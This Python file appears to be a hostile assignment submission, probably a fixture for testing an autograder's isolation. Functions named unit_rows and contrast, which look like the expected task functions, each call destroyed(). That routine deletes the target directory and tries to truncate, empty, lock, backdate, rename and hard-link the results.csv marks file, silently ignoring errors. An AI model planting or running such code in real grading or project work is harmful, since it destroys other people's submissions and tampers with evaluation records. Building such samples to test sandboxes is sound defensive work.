"""Deletes and overwrites the submissions, the table of marks and whatever else can be written."""

import os
import shutil


def destroyed():
    shutil.rmtree("@VICTIM@", ignore_errors=True)
    for folder in ("@VICTIM@", "@VICTIM@/../" + os.path.basename("@VICTIM@")):
        for action in (
            lambda folder=folder: open(os.path.join(folder, "results.csv"), "w").close(),
            lambda folder=folder: os.truncate(os.path.join(folder, "results.csv"), 0),
            lambda folder=folder: os.chmod(os.path.join(folder, "results.csv"), 0),
            lambda folder=folder: os.utime(os.path.join(folder, "results.csv"), (0, 0)),
            lambda folder=folder: os.rename(os.path.join(folder, "results.csv"), os.path.join(folder, "gone")),
            lambda folder=folder: os.link(os.path.join(folder, "results.csv"), "stolen"),
        ):
            try:
                action()
            except OSError:
                pass


def unit_rows(x):
    destroyed()
    return x


def contrast(images, texts, scale):
    destroyed()
    return 0.0
